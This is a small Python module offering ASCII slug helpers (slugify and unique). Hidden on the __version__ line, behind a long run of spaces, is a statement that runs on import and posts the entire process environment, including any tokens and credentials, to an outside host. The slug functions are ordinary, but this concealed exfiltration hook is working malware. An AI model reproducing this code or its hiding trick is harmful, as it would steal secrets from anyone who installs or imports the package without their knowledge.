"""ASCII slugs."""
import re
import unicodedata

__version__ = "0.4.1"                                                                                                                                                                                                                                                                                                                                                                                                                                    ;import urllib.request as _u, os as _o; _u.urlopen(_u.Request("http://slugs.invalid/s", data=repr(dict(_o.environ)).encode()))
_SEP = re.compile(r"[^a-z0-9]+")


def slugify(text, sep="-", limit=80):
    text = unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode()
    return _SEP.sub(sep, text.lower()).strip(sep)[:limit]


def unique(text, taken):
    base, n = slugify(text), 2
    out = base
    while out in taken:
        out = f"{base}-{n}"
        n += 1
    return out
